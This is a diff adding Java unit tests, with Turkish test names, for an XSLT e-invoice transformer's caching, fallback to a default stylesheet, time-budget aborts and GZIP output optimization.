+                .tag("result", "hit").functionCounter().count()).isEqualTo(2.0);
+
+        transformer.reload();
+        assertThat(transformer.transform(request).isCacheHit()).isFalse();
+    }
+
+    @Test
+    @DisplayName("Özel XSLT başarısız olup varsayılana dönülen sonuç cache'lenmemeli ve etiket taşımamalı")
+    void shouldNotCacheDefaultFallbackResult() throws Exception {
+        writeDefaultInvoiceXslt();
+        setField("resultCacheEnabled", true);
+        transformer.init();
+        transformer.reload();
+
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <xsl:message terminate="yes">Bilinçli hata</xsl:message>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var first = transformer.transform(request);
+        var second = transformer.transform(request);
+
+        assertThat(first.isDefaultXslUsed()).isTrue();
+        assertThat(first.getResultTag()).isNull();
+        assertThat(second.isCacheHit()).isFalse();
+        assertThat(second.getCustomXsltError()).isNotBlank();
+    }
+
+    @Test
+    @DisplayName("Bütçe aşımıyla varsayılana dönülen sonuç cache'lenmemeli, sonraki istek özel XSLT'yi yeniden çalıştırmalı")
+    void shouldRetryCustomXsltAfterBudgetAbortInsteadOfServingCachedFallback() throws Exception {
+        writeDefaultInvoiceXslt();
+        setField("resultCacheEnabled", true);
+        setField("maxCpuMs", 0L);
+        setField("maxWallMs", 1L);
+        transformer.init();
+        transformer.reload();
+
+        // 2^18 şablon çağrısı — sınırsız bütçede kısa sürer, 1 ms bütçede kesilir
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/">
+                        <html><body><xsl:call-template name="f"><xsl:with-param name="n" select="18"/></xsl:call-template>Özel</body></html>
+                    </xsl:template>
+                    <xsl:template name="f">
+                        <xsl:param name="n"/>
+                        <xsl:if test="$n &gt; 0">
+                            <xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
+                            <xsl:call-template name="f"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
+                        </xsl:if>
+                    </xsl:template>
+                </xsl:stylesheet>""";
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root/>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var aborted = transformer.transform(request);
+        assertThat(aborted.isDefaultXslUsed()).isTrue();
+        assertThat(aborted.getCustomXsltError()).contains("süre bütçesini aştı");
+        assertThat(aborted.getResultTag()).isNull();
+
+        // Yük geçti — aynı istek cache'teki varsayılan çıktı yerine özel XSLT ile render edilmeli
+        setField("maxWallMs", 60_000L);
+        var retried = transformer.transform(request);
+
+        assertThat(retried.isCacheHit()).isFalse();
+        assertThat(retried.isDefaultXslUsed()).isFalse();
+        assertThat(new String(retried.getHtmlContent(), StandardCharsets.UTF_8)).contains("Özel");
+        assertThat(retried.getResultTag()).isEqualTo(transformer.resultTag(request));
+        assertThat(transformer.transform(request).isCacheHit()).isTrue();
+    }
+
+    @Test
+    @DisplayName("Çıktı optimizasyonu ve ön sıkıştırma açıkken GZIP gövdesi cache hit'lerinde aynı kalmalı")
+    void shouldOptimizeAndPrecompressOutputStableAcrossCacheHits() throws Exception {
+        setField("resultCacheEnabled", true);
+        setField("optimizeOutput", true);
+        setField("precompressOutput", true);
+        transformer.init();
+
+        String logo = "data:image/png;base64," + "A".repeat(2048);
+        String xslt = """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:output method="html" indent="yes"/>
+                    <xsl:template match="/">
+                        <html>
+                            <head><title>Fatura</title></head>
+                            <body>
+                                <img src="%s"/>
+                                <div>
+                                    <p><xsl:value-of select="/root/name"/></p>
+                                </div>
+                                <img src="%s"/>
+                            </body>
+                        </html>
+                    </xsl:template>
+                </xsl:stylesheet>""".formatted(logo, logo);
+
+        var request = new TransformRequest();
+        request.setTransformType(TransformType.INVOICE);
+        request.setDocument("<root><name>Optimize</name></root>".getBytes(StandardCharsets.UTF_8));
+        request.setTransformer(xslt.getBytes(StandardCharsets.UTF_8));
+
+        var first = transformer.transform(request);
+        var second = transformer.transform(request);
+
+        String html = new String(first.getHtmlContent(), StandardCharsets.UTF_8);
+        assertThat(html).contains("Optimize");
+        assertThat(html.split("A".repeat(2048), -1)).hasSize(2);
+        assertThat(html).contains("data-xslt-img=\"0\"").doesNotContain("    ");
+        assertThat(first.getOutputSize()).isEqualTo(first.getHtmlContent().length);
+
+        assertThat(second.isCacheHit()).isTrue();
+        assertThat(second.getGzipContent()).isNotNull().isSameAs(first.getGzipContent());
+        try (var gzip = new GZIPInputStream(new ByteArrayInputStream(second.getGzipContent()))) {
+            assertThat(gzip.readAllBytes()).isEqualTo(first.getHtmlContent());
+        }
+
+        var saved = registry.get("xslt_transform_output_bytes_saved").summary();
+        assertThat(saved.count()).isEqualTo(1);
+        assertThat(saved.totalAmount()).isGreaterThan(1024);
+    }
+
+    private void writeDefaultInvoiceXslt() throws Exception {
+        Files.createDirectories(assetDir.resolve("default_transformers"));
+        Files.writeString(assetDir.resolve("default_transformers/eInvoice_Base.xslt"), """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <xsl:stylesheet version="2.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
+                    <xsl:template match="/"><html><body>Varsayılan</body></html></xsl:template>
+                </xsl:stylesheet>""");
+    }
+
+    private void setField(String name, boolean value) throws Exception {
+        var field = SaxonXsltTransformer.class.getDeclaredField(name);
+        field.setAccessible(true);
+        field.setBoolean(transformer, value);
+    }
+
+    private void setField(String name, long value) throws Exception {
+        var field = SaxonXsltTransformer.class.getDeclaredField(name);
+        field.setAccessible(true);
+        field.setLong(transformer, value);
+    }
+
+    private static String buildUblWithEmbeddedXslt(String invoiceId, String base64Xslt) {
+        return """
+                <?xml version="1.0" encoding="UTF-8"?>
+                <Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
+                         xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
+                         xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
+                    <cbc:ID>%s</cbc:ID>
+                    <cac:AdditionalDocumentReference>
+                        <cbc:ID>ref-001</cbc:ID>
+                        <cac:Attachment>
+                            <cbc:EmbeddedDocumentBinaryObject encodingCode="Base64"
+                                filename="general.xslt"
+                                mimeCode="application/xml">%s</cbc:EmbeddedDocumentBinaryObject>
+                        </cac:Attachment>
+                    </cac:AdditionalDocumentReference>
+                </Invoice>""".formatted(invoiceId, base64Xslt);
+    }
 }